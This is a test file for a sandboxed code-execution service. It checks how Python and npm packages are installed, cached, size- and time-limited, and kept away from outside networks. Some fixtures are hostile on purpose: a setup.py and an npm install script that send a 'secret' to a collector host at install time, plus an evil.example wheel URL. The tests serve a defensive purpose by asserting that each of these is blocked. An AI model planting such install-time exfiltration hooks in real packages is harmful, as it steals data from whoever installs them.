import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildNpmTarball, buildPythonDistribution, TestPackageIndex } from '../support/package-index.js';
import { postJson, python, startTestApp, type TestApp } from '../support/test-app.js';

// Everything stays on loopback: the test builds its own wheels and sdists, serves them from a PEP 503
// index on 127.0.0.1 (the operator's SANDBOX_PYPI_INDEX_URL), and the service's egress resolver maps
// *.test names to 127.0.0.1 so that a program may be allowed the index by its exact name.
let t: TestApp;
const index = new TestPackageIndex();
let collector: Server;
const collected: string[] = [];
let collectorPort = 0;
let distDir = '';
const MiB = 1024 * 1024;

beforeAll(async () => {
  collector = createServer((request, response) => {
    collected.push(request.url ?? '');
    response.end('leaked');
  });
  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
  collectorPort = (collector.address() as AddressInfo).port;
  distDir = mkdtempSync(join(tmpdir(), 'packages-dist-'));
  index.addPython(
    'sbxdemo',
    buildPythonDistribution(distDir, 'sbxdemo', { 'sbxdemo/__init__.py': 'VALUE = 42\n' }),
  );
  // Unpacks to 8 MiB (zeros compress to almost nothing): past the 4 MiB installed-size budget.
  index.addPython(
    'sbxbig',
    buildPythonDistribution(distDir, 'sbxbig', {
      'sbxbig/__init__.py': '',
      // A module, not data: setup.py's `packages` takes .py files only.
      'sbxbig/blob.py': `# ${'0'.repeat(8 * MiB)}\n`,
    }),
  );
  // An allowed package whose dependency is not on the allowlist.
  index.addPython(
    'sbxneedy',
    buildPythonDistribution(
      distDir,
      'sbxneedy',
      { 'sbxneedy/__init__.py': '' },
      {
        setupPy:
          'from setuptools import setup\nsetup(name="sbxneedy", version="1.0", packages=["sbxneedy"], install_requires=["sbxsecret"])\n',
      },
    ),
  );
  index.addPython(
    'sbxsecret',
    buildPythonDistribution(distDir, 'sbxsecret', { 'sbxsecret/__init__.py': '' }),
  );
  index.addPython(
    'sbxlater',
    buildPythonDistribution(distDir, 'sbxlater', { 'sbxlater/__init__.py': 'VALUE = 7\n' }),
  );
  index.addNpm('sbxnode', '1.0.0', buildNpmTarball(distDir, 'sbxnode', 'module.exports = { value: 43 };\n'));
  // npm runs it at install time, in the install sandbox: Node's http ignores HTTP_PROXY, so the
  // script names the proxy it was given itself, as a determined script would.
  const leakScripts = {
    install: `node -e "const p=new URL(process.env.HTTP_PROXY);require('http').get({host:p.hostname,port:p.port,path:'http://collector.test:${collectorPort}/npm-leak'},r=>{console.log('NPM-LEAK-STATUS',r.statusCode);process.exit(r.statusCode===200?0:1)}).on('error',e=>{console.log('NPM-LEAK-ERROR',e.message);process.exit(1)})"`,
  };
  index.addNpm(
    'sbxnodeleak',
    '1.0.0',
    buildNpmTarball(distDir, 'sbxnodeleak', 'module.exports = {};\n', leakScripts),
    leakScripts,
  );
  // sdists: their setup.py runs at install time, inside the install sandbox.
  index.addPython(
    'sbxleak',
    buildPythonDistribution(
      distDir,
      'sbxleak',
      { 'sbxleak/__init__.py': '' },
      {
        sdist: true,
        setupPy: [
          'import urllib.request',
          'from setuptools import setup',
          'try:',
          `    urllib.request.urlopen("http://collector.test:${collectorPort}/leak?secret=1", timeout=10).read()`,
          '    print("LEAK-REACHED")',
          'except Exception as error:',
          '    raise SystemExit("LEAK-BLOCKED: " + str(error))',
          'setup(name="sbxleak", version="1.0", packages=["sbxleak"])',
        ].join('\n'),
      },
    ),
  );
  index.addPython(
    'sbxslow',
    buildPythonDistribution(
      distDir,
      'sbxslow',
      { 'sbxslow/__init__.py': '' },
      {
        sdist: true,
        setupPy:
          'import time\ntime.sleep(120)\nfrom setuptools import setup\nsetup(name="sbxslow", version="1.0", packages=["sbxslow"])\n',
      },
    ),
  );
  const port = await index.start();
  t = await startTestApp(
    {
      SANDBOX_PYPI_INDEX_URL: `http://127.0.0.1:${port}/simple/`,
      SANDBOX_NPM_REGISTRY_URL: `http://127.0.0.1:${port}/`,
      SANDBOX_PACKAGES_ALLOW:
        'python:sbxdemo,python:sbxbig,python:sbxneedy,python:sbxleak,python:sbxslow,python:sbxlater,nodejs:sbxnode,nodejs:sbxnodeleak',
      SANDBOX_PACKAGES_MAX_BYTES: String(4 * MiB),
      // The program may be allowed the index by its exact name (loopback needs one), never by default.
      SANDBOX_EGRESS_ALLOW: `pypi.test:${port}`,
    },
    undefined,
    { resolveHost: async (host) => (host.endsWith('.test') ? ['127.0.0.1'] : []) },
  );
}, 120_000);

afterAll(async () => {
  await t?.stop();
  index.stop();
  collector?.close();
  if (distDir) rmSync(distDir, { recursive: true, force: true });
});

interface InstallJson {
  outcome: string;
  cache_hits: number;
  cache_misses: number;
  duration_ms: number;
  output: string;
  packages: string[];
}

async function execute(body: Record<string, unknown>) {
  const { status, json } = await postJson(`${t.httpUrl}/v1/execute`, body);
  return { status, json, install: json.install as InstallJson | undefined };
}

async function metric(series: string): Promise<number> {
  const text = await (await fetch(`${t.httpUrl}/metrics`)).text();
  const line = text.split('\n').find((candidate) => candidate.startsWith(`${series} `));
  return line ? Number(line.slice(series.length + 1)) : 0;
}

describe('packages at run time (Python, through the host-side mirror and cache)', () => {
  it('installs a wheel from the operator index and the program imports it', async () => {
    const run = await execute(
      python('import sbxdemo, sys\nprint(sbxdemo.VALUE, sbxdemo.__file__)', {
        packages: { python: ['sbxdemo==1.0'] },
      }),
    );
    expect(run.status).toBe(200);
    expect(run.install?.output ?? '').toContain('Successfully installed sbxdemo-1.0');
    expect(run.json.exit_reason).toBe('ok');
    expect(run.json.stdout).toMatch(/^42 \/sandbox\/job\/python-packages\/sbxdemo\/__init__\.py/);
    expect(run.install).toMatchObject({
      outcome: 'ok',
      packages: ['sbxdemo==1.0'],
      cache_misses: 1,
      cache_hits: 0,
    });
    expect(index.count('/files/sbxdemo-1.0')).toBe(1);
  }, 120_000);

  it('serves the second install from the host cache: the index sees no second request', async () => {
    const requestsBefore = index.requests.length;
    const hitsBefore = await metric('code_sandbox_package_cache_requests_total{result="hit"}');
    const run = await execute(
      python('import sbxdemo\nprint(sbxdemo.VALUE)', { packages: { python: ['sbxdemo'] } }),
    );
    expect(run.json.exit_reason).toBe('ok');
    expect(run.json.stdout).toBe('42\n');
    expect(run.install).toMatchObject({ outcome: 'ok', cache_hits: 1, cache_misses: 0 });
    expect(index.requests.length).toBe(requestsBefore);
    expect(await metric('code_sandbox_package_cache_requests_total{result="hit"}')).toBe(hitsBefore + 1);
    expect(
      await metric('code_sandbox_package_installs_total{language="python",outcome="ok"}'),
    ).toBeGreaterThanOrEqual(2);
    expect(await metric('code_sandbox_package_fetched_bytes_total')).toBeGreaterThan(0);
  }, 120_000);

  it('refuses a package that is not on the allowlist, naming it (400, nothing runs)', async () => {
    const run = await execute(python('print(1)', { packages: { python: ['sbxdemo', 'requests-oauthlib'] } }));
    expect(run.status).toBe(400);
    expect(JSON.stringify(run.json)).toContain(
      'packages.python[1]: \\"requests-oauthlib\\" is not in the server\'s package allowlist',
    );
    const url = await execute(python('print(1)', { packages: { python: ['https://evil.example/x.whl'] } }));
    expect(url.status).toBe(400);
  });

  it('refuses a dependency that is not on the allowlist: install_error with the mirror saying why', async () => {
    const run = await execute(python('import sbxneedy', { packages: { python: ['sbxneedy'] } }));
    expect(run.status).toBe(200);
    expect(run.json.exit_reason).toBe('install_error');
    expect(run.install?.outcome).toBe('failed');
    expect(run.install?.output).toContain('refused "sbxsecret": not in the server\'s package allowlist');
    expect(index.count('/simple/sbxsecret/')).toBe(0);
    expect(run.json.stdout).toBe('');
  }, 120_000);

  it('gives the program only its own network: the index is unreachable unless its network allows it', async () => {
    const probe = (allow: boolean) =>
      python(
        [
          'import os, urllib.request',
          'os.environ.pop("NO_PROXY", None); os.environ.pop("no_proxy", None)',
          'import sbxdemo',
          'print("sockets", [p for p in ("/sandbox/install", "/sandbox/job/packages.sock") if os.path.exists(p)])',
          'try:',
          `    print("index", urllib.request.urlopen("http://pypi.test:${index.port}/simple/sbxdemo/", timeout=10).status)`,
          'except Exception as error:',
          '    print("index", "ERR", error)',
        ].join('\n'),
        {
          packages: { python: ['sbxdemo'] },
          ...(allow ? { network: { allow: [`pypi.test:${index.port}`] } } : {}),
        },
      );
    const pagesBefore = index.count('/simple/sbxdemo/');
    const closed = await execute(probe(false));
    expect(closed.install?.outcome).toBe('ok');
    expect(closed.json.stdout).toContain('sockets []');
    expect(closed.json.stdout).toMatch(/index ERR HTTP Error 403/);
    expect(index.count('/simple/sbxdemo/')).toBe(pagesBefore);
    const open = await execute(probe(true));
    expect(open.json.stdout).toContain('index 200');
    expect(index.count('/simple/sbxdemo/')).toBe(pagesBefore + 1);
  }, 120_000);

  it('ends an install past the size budget as install_error (too_large)', async () => {
    const run = await execute(python('import sbxbig', { packages: { python: ['sbxbig'] } }));
    expect(run.json.exit_reason).toBe('install_error');
    expect(run.install?.outcome).toBe('too_large');
    expect(run.install?.output).toContain('SANDBOX_PACKAGES_MAX_BYTES');
  }, 120_000);

  it("ends an install past the request's timeout as install_error (timeout), within that timeout", async () => {
    const started = Date.now();
    const run = await execute(
      python('import sbxslow', { packages: { python: ['sbxslow'] }, limits: { timeout_ms: 8000 } }),
    );
    expect(run.json.exit_reason).toBe('install_error');
    expect(run.install?.outcome).toBe('timeout');
    expect(run.install?.duration_ms).toBeLessThan(8000 + 3000);
    expect(Date.now() - started).toBeLessThan(20_000);
  }, 120_000);

  it('stops an install script that reaches another host at the mirror (refused, logged, counted)', async () => {
    const refusedBefore = await metric('code_sandbox_package_refusals_total{reason="not_index"}');
    const run = await execute(python('import sbxleak', { packages: { python: ['sbxleak'] } }));
    expect(run.json.exit_reason).toBe('install_error');
    expect(run.install?.output).toContain('LEAK-BLOCKED');
    expect(run.install?.output).toContain(`refused GET http://collector.test:${collectorPort}/leak?secret=1`);
    expect(collected).toEqual([]);
    expect(await metric('code_sandbox_package_refusals_total{reason="not_index"}')).toBe(refusedBefore + 1);
  }, 120_000);
});

describe('packages in sessions', () => {
  it('installs at CreateSession, imports in later cells, and installs more with %pip install in a cell', async () => {
    const created = await postJson(`${t.httpUrl}/v1/sessions`, {
      language: 'python',
      packages: { python: ['sbxdemo'] },
    });
    expect(created.status).toBe(201);
    const sessionId = created.json.session_id as string;
    const cell = async (code: string) =>
      (await postJson(`${t.httpUrl}/v1/sessions/${sessionId}/execute`, { code })).json;
    try {
      expect((await cell('import sbxdemo\nprint(sbxdemo.VALUE)')).stdout).toBe('42\n');
      const installing = await cell('%pip install sbxlater\nimport sbxlater\nprint(sbxlater.VALUE)');
      expect(installing.exit_reason).toBe('ok');
      expect(installing.stdout).toBe('7\n');
      expect((installing.install as InstallJson).outcome).toBe('ok');
      const later = await cell('print(sbxdemo.VALUE + sbxlater.VALUE)');
      expect(later.stdout).toBe('49\n');
      expect(later.install).toBeUndefined();
      const refused = await postJson(`${t.httpUrl}/v1/sessions/${sessionId}/execute`, {
        code: '%pip install requests-oauthlib',
      });
      expect(refused.status).toBe(400);
      const failing = await cell('%pip install sbxneedy\nprint("not reached")');
      expect(failing.exit_reason).toBe('install_error');
      expect(failing.stdout).toBe('');
    } finally {
      await fetch(`${t.httpUrl}/v1/sessions/${sessionId}`, { method: 'DELETE' });
    }
  }, 240_000);
});

describe('packages at run time (Node.js, npm against a registry stand-in)', () => {
  it('installs a tarball from the registry and the program requires it; the second install is cached', async () => {
    const first = await execute({
      language: 'nodejs',
      code: 'console.log(require("sbxnode").value)',
      packages: { nodejs: ['sbxnode@1.0.0'] },
    });
    expect(first.install?.output).toBeDefined();
    expect(first.json.exit_reason).toBe('ok');
    expect(first.json.stdout).toBe('43\n');
    expect(first.install).toMatchObject({ outcome: 'ok', cache_misses: 1 });
    const downloads = index.count('/tarballs/sbxnode-1.0.0.tgz');
    const second = await execute({
      language: 'nodejs',
      code: 'console.log(require("sbxnode").value + 1)',
      packages: { nodejs: ['sbxnode'] },
    });
    expect(second.json.stdout).toBe('44\n');
    expect(second.install).toMatchObject({ outcome: 'ok', cache_hits: 1, cache_misses: 0 });
    expect(index.count('/tarballs/sbxnode-1.0.0.tgz')).toBe(downloads);
  }, 180_000);

  it('stops an install script that reaches another host at the mirror', async () => {
    const run = await execute({
      language: 'nodejs',
      code: 'require("sbxnodeleak")',
      packages: { nodejs: ['sbxnodeleak'] },
    });
    expect(run.install?.output).toContain('NPM-LEAK-STATUS 403');
    expect(run.json.exit_reason).toBe('install_error');
    expect(collected).toEqual([]);
  }, 180_000);
});
